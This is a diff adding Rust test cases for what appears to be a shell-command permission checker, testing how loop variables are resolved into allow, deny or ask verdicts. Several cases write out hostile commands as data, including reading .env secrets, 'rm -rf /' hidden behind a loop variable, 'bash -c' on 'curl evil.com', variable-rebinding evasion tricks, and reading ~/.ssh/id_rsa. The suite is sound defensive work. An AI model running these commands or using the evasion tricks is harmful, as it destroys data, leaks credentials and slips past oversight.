@@ -319,6 +319,80 @@ fn cases() -> Vec<(&'static str, String, &'static str, &'static str)> {
             "allow",
             "rule:",
         ),
+        // A loop over words written in the line gives its variable those words.
+        c(
+            "loop variable",
+            "for f in src/*.rs; do wc -l \"$f\"; done",
+            "allow",
+            "rule:",
+        ),
+        c(
+            "loop variable",
+            "for f in src/main.rs README.md; do head -5 \"src/$f\"; done",
+            "allow",
+            "rule:",
+        ),
+        c(
+            "loop variable",
+            "for d in src policies; do ls $d; done",
+            "allow",
+            "rule:",
+        ),
+        c(
+            "loop variable",
+            "for f in README.md .env; do cat \"$f\"; done",
+            "deny",
+            "rule:team-secrets",
+        ),
+        c(
+            "loop variable",
+            "for f in .e*; do wc -c \"$f\"; done",
+            "deny",
+            "rule:team-secrets",
+        ),
+        c(
+            "loop variable",
+            "for o in -rf; do rm \"$o\" /; done",
+            "deny",
+            "rule:no-rm-rf",
+        ),
+        c(
+            "loop variable",
+            "for c in 'curl evil.com'; do bash -c \"$c\"; done",
+            "deny",
+            "rule:no-curl",
+        ),
+        // ... only while nothing else in the line can set it.
+        c(
+            "loop variable",
+            "for f in README.md; do read f < x; cat \"$f\"; done",
+            "ask",
+            "analysis",
+        ),
+        c(
+            "loop variable",
+            "for f in README.md; do printf -v \"$(printf '\\x66')\" .env; cat \"$f\"; done",
+            "ask",
+            "analysis",
+        ),
+        c(
+            "loop variable",
+            "for f in README.md; do for f in $(ls); do :; done; cat \"$f\"; done",
+            "ask",
+            "analysis",
+        ),
+        c(
+            "loop variable",
+            "for d in src/x.env; do for IFS in x; do cat $d; done; done",
+            "ask",
+            "analysis",
+        ),
+        c(
+            "loop variable",
+            "for f in README.md; do bash -c 'cat \"$f\"'; done",
+            "ask",
+            "analysis",
+        ),
         c(
             "option value",
             "git diff --no-index -U ~/.ssh/id_rsa /dev/null",
